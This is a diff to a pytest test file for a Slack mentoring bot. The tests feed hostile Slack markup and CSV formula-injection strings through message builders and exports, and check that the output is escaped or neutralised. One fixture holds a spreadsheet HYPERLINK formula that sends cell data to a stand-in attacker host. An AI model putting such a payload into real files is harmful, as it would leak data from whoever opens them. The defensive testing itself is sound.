@@ -9,24 +9,59 @@ hostile markup. A builder added later fails `test_every_builder_is_run` until it
 
 from __future__ import annotations
 
+import csv
 import importlib
 import inspect
+import io
 import pkgutil
-from datetime import date
+from datetime import UTC, date, datetime
 from types import SimpleNamespace
 
 import pytest
 
 import bot.blocks
-from bot.blocks import admin, checkins, common, goals, install, onboarding, pauses, prompts, rounds
+from bot.blocks import (
+    admin,
+    chart,
+    checkins,
+    common,
+    export,
+    goals,
+    home,
+    install,
+    meeting,
+    onboarding,
+    pauses,
+    prompts,
+    report,
+    rounds,
+    steering,
+)
+from bot.domain import steering as steering_rules
+from bot.domain.matching import Candidate, Rules
 from bot.domain.pairing import Why
+from bot.domain.schedule import NUDGE
 from bot.domain.topics import KICKOFF
-from bot.services.errors import HasLeft, NotSignedUp, ProgramComplete, UnreadablePause
+from bot.services import report as r
+from bot.services import steering as st
+from bot.services.errors import HasLeft, NotSignedUp, PairNotFound, ProgramComplete, UnreadablePause
+from bot.services.export import CheckinExport, Export, PersonExport
+from bot.services.home import CheckinView, GoalView, NextPrompt, PairView, ParticipantHome
 from bot.services.onboarding import PairedWith, Standing
 from bot.services.pauses import PartnerToTell, Paused, Resumed
-from bot.services.rounds import Moved, NothingToMatch, NotPosted, OpenProposal, PoolChange, Stale
+from bot.services.rounds import (
+    LastPairDropped,
+    Moved,
+    NothingToMatch,
+    NotInProposal,
+    NotPosted,
+    OpenProposal,
+    PoolChange,
+    Stale,
+)
 from bot.slack.admin import Refusal as AdminRefusal
 from storage.repositories.erasure import Erased
+from storage.repositories.reporting import CheckinRow, PersonRow
 
 HOSTILE = "Hi <!channel> *bold* <@U123> & <https://x|y> <!here> <#C999|general> <!subteam^S1>"
 # What must never reach Slack's mrkdwn parser intact.
@@ -50,7 +85,7 @@ def hostile_goal(id=1, role="mentee"):
 def hostile_checkin():
     return SimpleNamespace(met=True, usefulness=4, learned=HOSTILE, will_try=HOSTILE, blockers=HOSTILE,
                            goal_progress={"1": "some"}, overall_usefulness=5, recommend="yes",
-                           keep_meeting="yes")
+                           keep_meeting="yes", share_blocker=True)
 
 
 def hostile_proposal():
@@ -59,6 +94,14 @@ def hostile_proposal():
     return {"pairs": [{"mentor": "U0BEN", "mentee": "U0ANA", "score": 16, "reasons": reasons}],
             "unmatched": [{"user": "U0CAT", "reason": f"Every possible partner is in the same department ({HOSTILE})"}],
             "stats": {"pairs": 1, "participants": 3, "mentors": 1, "mentees": 1, "either": 1, "unmatched": 1}}
+
+
+def many(n_pairs: int, n_unmatched: int) -> dict:
+    """A proposal too big for one page of the preview."""
+    one = hostile_proposal()
+    return {"pairs": [{**one["pairs"][0], "mentor": f"U0M{i}", "mentee": f"U0E{i}"} for i in range(n_pairs)],
+            "unmatched": [{**one["unmatched"][0], "user": f"U0U{i}"} for i in range(n_unmatched)],
+            "stats": {**one["stats"], "pairs": n_pairs, "unmatched": n_unmatched}}
 
 
 def standing(status="active"):
@@ -73,6 +116,119 @@ RESUMED = Resumed(user_id="U0ANA", today=TODAY, ended_on=None,
                   partners=(PartnerToTell(pair_id=1, partner_id="U0BEN", channel="G0PAIR"),))
 ERASED = Erased(profile=True, goals=2, checkins=3, pairs=1, rounds=1, messages=9, other=1)
 
+# --- the program health report, the Home tab, the export -----------------------------------
+
+NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
+# What a spreadsheet would run as a formula (people's names and departments can start so).
+FORMULAS = ('=HYPERLINK("https://evil.example/?d="&A1,"Click me")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+            "\r=1+1")
+
+
+def figures(*, answers: int = 6) -> r.Figures:
+    return r.Figures(
+        people=r.PeopleFigures(total=12, in_pool=2, paired=8, paused=1, left=1), pairs=5, active=4, completed=1,
+        ended_early=0, started=4, met_once=r.Ratio(3, 4), met_last_cycle=r.Ratio(5, 6), meetings=r.Mean(9, 4),
+        response=r.Ratio(14, 20), usefulness=r.Mean(31, 8),
+        goals=r.GoalFigures(pairs_with_goals=r.Ratio(4, 4), goals=7,
+                            goal_progress={"done": 1, "some": 3, r.UNREPORTED: 3}, learn_back=3,
+                            pairs_with_learn_back=r.Ratio(2, 4), learn_back_progress={"not_started": 3}),
+        survey=r.SurveyFigures(answers=answers, overall=r.Mean(4.5 * answers, answers),
+                               recommend={"yes": 4, "maybe": 1, "no": 1} if answers else {},
+                               keep_meeting={"yes": 5, "no": 1} if answers else {}),
+        health={r.NEEDS_ATTENTION: 2, r.ON_TRACK: 1, r.TOO_EARLY: 1})
+
+
+# Every kind of reason, with a hostile name and a hostile shared blocker where they can appear.
+REASONS = (
+    r.Reason(r.BLOCKER, cycles=3, who="U0ANA", who_name=HOSTILE, shared=f"My manager {HOSTILE}\nsays no"),
+    r.Reason(r.BLOCKER, cycles=3, who="U0BEN", who_name=FORMULAS[0]),
+    r.Reason(r.ON_A_BREAK, who="U0BEN", who_name=HOSTILE, until=date(2026, 3, 16)),
+    r.Reason(r.SILENT, cycles=2), r.Reason(r.NOT_MET, cycles=2), r.Reason(r.NEVER_MET),
+    r.Reason(r.LOW_USEFULNESS, score=1.5), r.Reason(r.NO_MEETING_YET, cycles=1), r.Reason(r.FIRST_SESSION),
+    r.Reason(r.NOT_INTRODUCED), r.Reason(r.MET, cycles=2),
+)
+
+
+def pair_health(pair_id: int = 1, *, health: str | None = r.NEEDS_ATTENTION, status: str = r.ACTIVE,
+                name: str = HOSTILE) -> r.PairHealth:
+    return r.PairHealth(
+        pair_id=pair_id, mentor_id="U0BEN", mentor_name=name, mentee_id="U0ANA", mentee_name=HOSTILE,
+        status=status, health=health, reasons=REASONS if health == r.NEEDS_ATTENTION else (REASONS[-1],),
+        started=date(2026, 1, 5), ended=None if status == r.ACTIVE else date(2026, 2, 20), cycles_done=4,
+        checkins=7, meetings_reported=3, usefulness=r.Mean(15, 5), goals=3,
+        goals_progress={"some": 2, r.UNREPORTED: 1}, in_cohort=True, channel_id="G0PAIR")
+
+
+def health_report(*, cohort: bool = True, pairs: int = 3, answers: int = 6) -> r.Report:
+    kinds = [(r.NEEDS_ATTENTION, r.ACTIVE), (r.ON_TRACK, r.ACTIVE), (None, r.COMPLETED), (r.TOO_EARLY, r.ACTIVE)]
+    return r.Report(
+        team_id="T0HOSTILE", generated_at=NOW, overall=figures(answers=answers),
+        cohort=figures(answers=0) if cohort else None, cohort_since=date(2026, 1, 5),
+        pairs=tuple(pair_health(i + 1, health=h, status=st_, name=FORMULAS[i % len(FORMULAS)] if i % 2 else HOSTILE)
+                    for i, (h, st_) in enumerate((kinds * 20)[:pairs])),
+        weeks=WEEKS, quiet_cycles=2, cadence_weeks=1, n_cycles=12)
+
+
+WEEKS = tuple(r.WeekPoint(week=w, cycle=w, pairs=p, met=r.Ratio(m, p), response=r.Ratio(2 * m, 2 * p),
+                          usefulness=r.Mean(4 * m, m))
+              for w, p, m in ((1, 4, 3), (2, 4, 0), (3, 0, 0), (4, 5, 5)))
+
+
+def hostile_person(user_id: str, name: str, department: str) -> PersonRow:
+    return PersonRow(user_id=user_id, name=name, status="active", side="mentor",
+                     skills_share=(FORMULAS[3], "ai_tools"), skills_learn=(HOSTILE,), seniority_years=2,
+                     department=department, timezone="Europe/London", meeting_mode="video",
+                     meeting_frequency="weekly", capacity=1, joined_at=NOW, paused_until=None, left_at=None)
+
+
+def hostile_export() -> Export:
+    row = CheckinRow(pair_id=1, user_id="U0ANA", cycle=3, kind="checkin", met=True, usefulness=4, has_blocker=True,
+                     share_blocker=True, goal_progress={"1": "some"}, overall_usefulness=None, recommend=None,
+                     keep_meeting=None, created_at=NOW, updated_at=NOW)
+    people = [PersonExport(hostile_person(f"U0P{i}", name, FORMULAS[(-1 - i) % len(FORMULAS)]), 1, 2)
+              for i, name in enumerate((*FORMULAS, HOSTILE))]
+    return Export(team_id="T0HOSTILE", generated_at=NOW,
+                  pairs=[pair_health(1, name=FORMULAS[0]), pair_health(2, health=None, status=r.COMPLETED)],
+                  people=people,
+                  checkins=[CheckinExport(row, name, "mentee", {"some": 1}) for name in (*FORMULAS, HOSTILE)])
+
+
+def participant(status: str = "active") -> ParticipantHome:
+    goals_ = (GoalView("mentee", HOSTILE, "some"), GoalView("mentee", FORMULAS[0], None),
+              GoalView("mentor", HOSTILE, "done"))
+    pairs = (
+        PairView(pair_id=1, partner_id="U0BEN", partner_role="reverse mentor", introduced=True, session=3,
+                 sessions=12, next_prompt=NextPrompt(NUDGE, datetime(2026, 3, 9, 9, 0), "Europe/London"),
+                 goals=goals_, my_checkins=(CheckinView(1, "checkin", True, 4), CheckinView(2, "checkin", False, None),
+                                            CheckinView(12, "final", True, 5))),
+        PairView(pair_id=2, partner_id="U0CAT", partner_role="mentee", introduced=False, session=0, sessions=12,
+                 next_prompt=None, goals=(), my_checkins=()),
+    )
+    return ParticipantHome(standing=standing(status), pairs=pairs if status != "left" else ())
+
+
+NOT_A_MEMBER = ParticipantHome(standing=Standing(None), pairs=())
+HOME_NOTICE = pauses.pause_refusal(UnreadablePause(f"I can't read {HOSTILE}."))
+
+
+# --- steering pairs ------------------------------------------------------------------------
+
+def hostile_candidate(user_id: str, *, side: str, years: int, tz: str = "Europe/London",
+                      manager: str | None = None) -> Candidate:
+    return Candidate(user_id=user_id, name=HOSTILE, side=side, skills_share=frozenset({HOSTILE}),
+                     skills_learn=frozenset({HOSTILE}), seniority_years=years, department=HOSTILE, timezone=tz,
+                     manager_id=manager)
+
+
+# Every rule two people can break, worded with their (hostile) names and department.
+BROKEN = tuple(steering_rules.broken_rules(
+    hostile_candidate("U0ANA", side="mentee", years=20, tz=HOSTILE, manager="U0BEN"),
+    hostile_candidate("U0BEN", side="mentor", years=3, manager="U0ANA"),
+    Rules(reference_time=NOW), history=[("U0ANA", "U0BEN")]))
+ENDED = st.Ended(pair_id=1, mentor="U0BEN", mentee="U0ANA", ended_by="U0ADM", reason="not_a_fit", note=HOSTILE,
+                 tell=("U0BEN", "U0ANA"))
+ENDED_PAIR = SimpleNamespace(id=1, mentor_user_id="U0BEN", mentee_user_id="U0ANA", ended_by="U0ADM")
+
 # Each builder with hostile input wherever a person's words (or their name, or a team's name)
 # can reach it. Several calls where a builder has several shapes.
 CALLS: dict[str, list] = {
@@ -80,6 +236,8 @@ CALLS: dict[str, list] = {
     "admin.admin_channel_set": [lambda: admin.admin_channel_set(user_id="U0ANA", before="C0OLD")],
     "admin.command_refusal_text": [lambda r=r: admin.command_refusal_text(r, sub="match", admin_channel="C0ADMIN")
                                    for r in AdminRefusal],
+    "chart.chart_title": [lambda c=c: chart.chart_title(cohort=c) for c in (True, False)],
+    "chart.draw_chart": [lambda c=c: chart.draw_chart(WEEKS, cohort=c) for c in (True, False)],
     "admin.refusal_text": [lambda: admin.refusal_text(AdminRefusal.NOT_AN_ADMIN, what="x", admin_channel="C1")],
     "checkins.build_checkin_modal": [
         lambda: checkins.build_checkin_modal(pair_id=1, cycle=2, kind="checkin", partner_name=HOSTILE,
@@ -92,6 +250,11 @@ CALLS: dict[str, list] = {
         lambda k=k, m=m, u=u: checkins.build_checkin_thanks(name=HOSTILE, kind=k, met=m, updated=u, weekly=True)
         for k in ("checkin", "final") for m in (True, False) for u in (True, False)],
     "checkins.refusal": [lambda: checkins.refusal(NotSignedUp())],
+    "export.checkins_csv": [lambda: export.checkins_csv(hostile_export())],
+    "export.export_comment": [lambda: export.export_comment(hostile_export())],
+    "export.neutralise": [lambda v=v: export.neutralise(v) for v in (*FORMULAS, HOSTILE, None, 3)],
+    "export.pairs_csv": [lambda: export.pairs_csv(hostile_export())],
+    "export.people_csv": [lambda: export.people_csv(hostile_export())],
     "common.actions": [lambda: common.actions(common.button("Go", "a"))],
     "common.button": [lambda: common.button("Go", "a", value=HOSTILE)],
     "common.context": [lambda: common.context(common.esc(HOSTILE))],
@@ -122,10 +285,25 @@ CALLS: dict[str, list] = {
     "goals.fmt_date": [lambda: goals.fmt_date(TODAY)],
     "goals.refusal": [lambda: goals.refusal(NotSignedUp()), lambda: goals.refusal(ProgramComplete("U0BEN")),
                       lambda: goals.refusal(HasLeft())],
+    "home.admin_blocks": [lambda c=c, n=n: home.admin_blocks(health_report(cohort=c, pairs=n))
+                          for c in (True, False) for n in (0, 2, 30)],
+    "home.build_home": [
+        lambda: home.build_home(participant=participant(), today=TODAY, report=health_report(), notice=HOME_NOTICE),
+        lambda: home.build_home(participant=participant("paused"), today=TODAY),
+        lambda: home.build_home(participant=participant("left"), today=TODAY, notice=HOME_NOTICE),
+        lambda: home.build_home(participant=NOT_A_MEMBER, today=TODAY, report=health_report(cohort=False)),
+        lambda: home.build_home(participant=NOT_A_MEMBER, today=TODAY, notice=HOME_NOTICE),
+    ],
+    "home.participant_blocks": [lambda s=s: home.participant_blocks(participant(s), today=TODAY)
+                                for s in ("active", "paused")],
     "install.failed_page": [lambda: install.failed_page(HOSTILE)],
     "install.install_page": [lambda: install.install_page("https://slack.com/oauth?x=<y>&z=1")],
     "install.installed_page": [lambda: install.installed_page(team_name=HOSTILE, app_url="https://x/<y>",
                                                               welcome_back=True)],
+    "meeting.cadence_section": [
+        lambda f=f, c=c: meeting.cadence_section(cadence_weeks=2, program_fixed=f, choices=c)
+        for f in (True, False) for c in (("weekly", HOSTILE), ("biweekly", None), ("weekly", "weekly"))],
+    "meeting.every": [lambda n=n: meeting.every(n) for n in (1, 2, 3)],
     "onboarding.build_already_left": [lambda h=h: onboarding.build_already_left(has_data=h) for h in (True, False)],
     "onboarding.erased_lines": [lambda: onboarding.erased_lines(ERASED)],
     "onboarding.build_help_message": [lambda: onboarding.build_help_message(unknown=HOSTILE, is_admin_channel=True)],
@@ -151,12 +329,34 @@ CALLS: dict[str, list] = {
     "onboarding.standing_text": [lambda: onboarding.standing_text(standing(), today=TODAY)],
     "pauses.pair_ended_admin_note": [lambda: pauses.pair_ended_admin_note(leaver_id="U0ANA", partner_id="U0BEN")],
     "pauses.pair_ended_partner_note": [lambda: pauses.pair_ended_partner_note(leaver_id="U0ANA")],
+    "pauses.pause_admin_note": [
+        lambda u=u, m=m, e=e: pauses.pause_admin_note(
+            Paused(user_id="U0ANA", until=u, today=TODAY, partners=()),
+            PartnerToTell(pair_id=1, partner_id="U0BEN", channel="G0PAIR", mentor_id="U0BEN", mentee_id="U0ANA",
+                          sessions_moved=m, ends_on=e))
+        for u in (date(2026, 3, 16), None) for m in (0, 1, 2) for e in (None, date(2026, 6, 1))],
     "pauses.pause_note": [lambda: pauses.pause_note(PAUSED)],
     "pauses.pause_refusal": [lambda: pauses.pause_refusal(UnreadablePause(f"I can't read {HOSTILE}."))],
     "pauses.paused_reply": [lambda: pauses.paused_reply(PAUSED)],
     "pauses.resume_note": [lambda: pauses.resume_note(RESUMED)],
     "pauses.resume_refusal": [lambda: pauses.resume_refusal(NotSignedUp())],
     "pauses.resumed_reply": [lambda: pauses.resumed_reply(RESUMED)],
+    "report.attention_blocks": [lambda: report.attention_blocks(pair_health())],
+    "report.export_posted": [lambda: report.export_posted("C0ADMIN")],
+    "report.figure_lines": [lambda a=a: [v for pair in report.figure_lines(figures(answers=a)) for v in pair]
+                            for a in (0, 3, 6)],
+    "report.mean": [lambda m=m: report.mean(m) for m in (r.Mean(0, 0), r.Mean(12, 3), r.Mean(31, 8))],
+    "report.pair_already_nudged": [lambda: report.pair_already_nudged(mentor="U0BEN", mentee="U0ANA")],
+    "report.pair_nudge": [lambda: report.pair_nudge(mentor="U0BEN", mentee="U0ANA")],
+    "report.pair_nudged": [lambda: report.pair_nudged(mentor="U0BEN", mentee="U0ANA")],
+    "report.pair_title": [lambda: report.pair_title(pair_health())],
+    "report.preview_posted": [lambda: report.preview_posted("C0ADMIN")],
+    "report.ratio": [lambda x=x: report.ratio(x) for x in (r.Ratio(0, 0), r.Ratio(2, 3), r.Ratio(12, 15))],
+    "report.reason_words": [lambda x=x, w=w: report.reason_words(x, with_shared=w) for x in REASONS for w in (True, False)],
+    "report.report_messages": [lambda c=c, n=n: report.report_messages(health_report(cohort=c, pairs=n))
+                               for c in (True, False) for n in (0, 2, 3, 410)],
+    "report.report_text": [lambda c=c, n=n: report.report_text(health_report(cohort=c, pairs=n))
+                           for c in (True, False) for n in (0, 2, 3)],
     "prompts.closing": [lambda: prompts.closing(pair_id=1, mentor="U0BEN", mentee="U0ANA", cycle=12,
                                                 survey_pending=["U0ANA"])],
     "prompts.feedback_prompt": [lambda: prompts.feedback_prompt(pair_id=1, mentor="U0BEN", mentee="U0ANA",
@@ -167,6 +367,7 @@ CALLS: dict[str, list] = {
     "prompts.survey_reminder": [lambda: prompts.survey_reminder(pair_id=1, cycle=12, waiting_for=["U0ANA"])],
     "rounds.app_problem_note": [lambda: rounds.app_problem_note(error=HOSTILE, round_id=1)],
     "rounds.build_cancelled": [lambda: rounds.build_cancelled(proposal=hostile_proposal(), cancelled_by="U0ADM")],
+    "rounds.build_emptied": [lambda: rounds.build_emptied(proposal=hostile_proposal(), dropped_by="U0ADM")],
     "rounds.build_finished": [lambda: rounds.build_finished(proposal=hostile_proposal(), decided_by="U0ADM",
                                                             introduced=0, total=1, unmatched=1,
                                                             failed=[("U0BEN", "U0ANA", HOSTILE)])],
@@ -183,8 +384,13 @@ CALLS: dict[str, list] = {
         for n in (1, 2)],
     "rounds.build_open_proposal_exists": [lambda: rounds.build_open_proposal_exists(created_by="U0ADM",
                                                                                     permalink="https://x/y")],
-    "rounds.build_preview": [lambda: rounds.build_preview(round_id=1, proposal=hostile_proposal(), created_by="U0ADM")],
+    "rounds.build_preview": [lambda: rounds.build_preview(round_id=1, proposal=hostile_proposal(), created_by="U0ADM")]
+    + [lambda p=p: rounds.build_preview(round_id=1, proposal=many(25, 90), created_by="U0ADM", page=p)
+       for p in range(6)],
     "rounds.build_preview_failed": [lambda: rounds.build_preview_failed(HOSTILE, "C0ADMIN")],
+    "rounds.drop_reply": [lambda o=o: rounds.drop_reply(o)
+                          for o in (Moved(round_id=1, status="cancelled", decided_by="U0ADM"), NotInProposal(1),
+                                    LastPairDropped(1), Stale(round_id=1, change=PoolChange(1, 1)))],
     "rounds.build_progress": [lambda: rounds.build_progress(proposal=hostile_proposal(), decided_by="U0ADM",
                                                             introduced=0, total=1, note=HOSTILE)],
     "rounds.build_stale": [lambda: rounds.build_stale(proposal=hostile_proposal(), what_changed="someone left")],
@@ -193,6 +399,7 @@ CALLS: dict[str, list] = {
     "rounds.decision_reply": [lambda: rounds.decision_reply(Stale(round_id=1, change=PoolChange(1, 1))),
                               lambda: rounds.decision_reply(Moved(round_id=1, status="done", decided_by="U0ADM"))],
     "rounds.pair_line": [lambda: rounds.pair_line(hostile_proposal()["pairs"][0])],
+    "rounds.pages": [lambda n=n, u=u: rounds.pages(many(n, u)) for n, u in ((1, 1), (25, 0), (3, 90), (0, 0))],
     "rounds.plain_reason": [lambda: rounds.plain_reason(HOSTILE)],
     "rounds.preview_reply": [
         lambda: rounds.preview_reply(OpenProposal(round_id=1, created_by="U0ADM", permalink=None)),
@@ -203,11 +410,41 @@ CALLS: dict[str, list] = {
     "rounds.stale_reply": [lambda: rounds.stale_reply("someone left")],
     "rounds.summary_line": [lambda: rounds.summary_line(hostile_proposal())],
     "rounds.what_changed": [lambda: rounds.what_changed(PoolChange(1, 2))],
+    "steering.build_choose_pair": [lambda: steering.build_choose_pair(
+        "U0BEN", [st.PairView(1, "U0BEN", "U0ANA", True), st.PairView(2, "U0BEN", "U0CAT", False)])],
+    "steering.build_end_modal": [lambda: steering.build_end_modal(st.PairView(1, "U0BEN", "U0ANA", True))],
+    "steering.build_ended_reply": [lambda: steering.build_ended_reply(ENDED)],
+    "steering.build_hand_pair_check": [lambda b=b: steering.build_hand_pair_check(st.HandPairCheck("U0BEN", "U0ANA", b))
+                                       for b in (BROKEN, BROKEN[-2:-1])],
+    "steering.build_pair_ended_admins": [
+        lambda e=e: steering.build_pair_ended_admins(e)
+        for e in (ENDED, st.Ended(1, "U0BEN", "U0ANA", "U0ADM", HOSTILE, "", ()),
+                  st.Ended(1, "U0BEN", "U0ANA", "U0ADM", "other", FORMULAS[0], ("U0ANA",)))],
+    "steering.end_refusal": [lambda e=e: steering.end_refusal(e)
+                             for e in (st.PairAlreadyEnded(ENDED_PAIR, ENDED), st.NotInProgram("U0ANA"),
+                                       st.NoActivePair("U0ANA"), PairNotFound(), st.SamePerson())],
+    "steering.hand_pair_refusal": [lambda e=e: steering.hand_pair_refusal(e)
+                                   for e in (st.SamePerson(), st.NotInProgram("U0ANA"),
+                                             st.Busy("U0ANA", "paused", date(2026, 3, 16)), st.Busy("U0ANA", "paused"),
+                                             st.Busy("U0ANA", "paired"), PairNotFound())],
+    "steering.hand_paired_text": [lambda b=b: steering.hand_paired_text(st.HandPaired(1, 1, "U0BEN", "U0ANA", b),
+                                                                        by="U0ADM") for b in (BROKEN, ())],
+    "steering.pair_ended_person_note": [lambda: steering.pair_ended_person_note(user_id="U0ANA", partner_id="U0BEN")],
+    "steering.rematch_refusal": [lambda w=w: steering.rematch_refusal(st.NotInPool("U0ANA", w))
+                                 for w in ("paired", "paused", "left", HOSTILE)],
+    "steering.rematch_reply": [lambda o=o: steering.rematch_reply(o)
+                               for o in (st.NoPartner("U0ANA", 4), OpenProposal(1, "U0ADM", "https://x/y"),
+                                         OpenProposal(None, "U0ADM", None), NotPosted(1, HOSTILE, "C0ADMIN"),
+                                         Moved(1, "done", "U0ADM"))],
 }
 
 # Helpers that put what they are given into a Block Kit object as it is: their callers escape
 # (they are run above with text already escaped, or with plain_text that Slack doesn't parse).
 LOW_LEVEL = {"common.context", "common.fields", "common.mrkdwn", "common.section", "common.truncate"}
+# What never reaches Slack's mrkdwn parser: CSV files (and their cells), the report printed on the
+# command line, the chart's PNG. People's words stay as they typed them there (checked below).
+NOT_MRKDWN = {"export.checkins_csv", "export.neutralise", "export.pairs_csv", "export.people_csv",
+              "report.report_text"}
 
 
 def public_builders() -> set[str]:
@@ -247,7 +484,7 @@ def test_every_builder_is_run():
 def test_no_mention_or_link_survives(name):
     for call in CALLS[name]:
         result = call()
-        if name in LOW_LEVEL or result is None:
+        if name in LOW_LEVEL | NOT_MRKDWN or result is None:
             continue
         for text in mrkdwn_strings(result):
             found = [m for m in MARKUP if m in text]
@@ -260,3 +497,63 @@ def test_escaping_keeps_the_words():
     intro = rounds.build_intro(pair_id=1, mentor="U0BEN", mentee="U0ANA",
                                profiles={"U0ANA": ("Data & dashboards <3", "video")})
     assert "Data &amp; dashboards &lt;3" in str(intro["blocks"])
+
+
+def _rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("kind", sorted(export.WRITERS))
+def test_csv_cells_are_never_formulas_and_keep_the_words(kind):
+    """CSV is not mrkdwn: people's words are kept as they typed them (no `&amp;`), every row has
+    the header's columns whatever commas, quotes or line breaks a name holds, and no cell starts
+    the way a spreadsheet runs a formula (=, +, -, @, tab, carriage return): such a cell is
+    neutralised with a leading apostrophe and otherwise unchanged."""
+    rows = _rows(export.WRITERS[kind](hostile_export()))
+    header_, body = rows[0], rows[1:]
+    assert body and all(len(row) == len(header_) for row in body)
+    cells = [c for row in body for c in row]
+    assert not [c for c in cells if c.startswith(export.FORMULA_STARTS)]
+    by_column = {name: [row[i] for row in body] for i, name in enumerate(header_)}
+    names = by_column.get("name") or by_column["mentor_name"]
+    for formula in FORMULAS[:1] if kind == "pairs" else FORMULAS:
+        assert "'" + formula in names
+    if kind == "people":
+        assert "'" + FORMULAS[3] + ";ai_tools" in by_column["skills_share"]
+        assert {"'" + f for f in FORMULAS} <= set(by_column["department"])
+    assert HOSTILE in (by_column.get("name") or by_column["mentee_name"])
+    assert "&amp;" not in "".join(cells) and "&lt;" not in "".join(cells)
+
+
+def test_the_export_holds_no_shared_words():
+    """A blocker shared with the program team is shown to admins in Slack, never written to a file."""
+    files = "".join(writer(hostile_export()) for writer in export.WRITERS.values())
+    assert "says no" not in files and "My manager" not in files
+    assert "said something is getting in the way" in files
+
+
+def test_neutralise():
+    assert [export.neutralise(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
+    assert export.neutralise(HOSTILE) == HOSTILE and export.neutralise("O'Brien =1") == "O'Brien =1"
+    assert export.neutralise(None) == "" and export.neutralise(3) == "3" and export.neutralise("'=1") == "'=1"
+
+
+def test_report_text_shows_names_as_typed():
+    """The command line's report is plain text: names as Slack has them, with the user ID."""
+    text = report.report_text(health_report(pairs=3))
+    assert f"{HOSTILE} (U0ANA)" in text and f"{FORMULAS[0]} (U0BEN)" in text
+    assert "&amp;" not in text
+    assert "My manager" in text and "says no" in text  # shared with the program team, one line
+    assert all(line.count("says no") <= 1 and not line.startswith("says no") for line in text.splitlines())
+
+
+def test_the_chart_is_a_png_with_only_our_words():
+    """No person's words reach the chart (its title and labels are ours); it draws every shape of
+    a cohort's weeks, and nothing when no week has been asked yet."""
+    for cohort in (True, False):
+        png = chart.draw_chart(WEEKS, cohort=cohort)
+        assert png[:8] == b"\x89PNG\r\n\x1a\n"
+        assert (int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")) == (1200, 700)
+    assert chart.draw_chart(WEEKS[2:3], cohort=True) is None and chart.draw_chart((), cohort=False) is None
+    one = r.WeekPoint(week=1, cycle=1, pairs=1, met=r.Ratio(0, 1), response=r.Ratio(0, 2), usefulness=r.Mean(0, 0))
+    assert chart.draw_chart((one,), cohort=True)[:4] == b"\x89PNG"
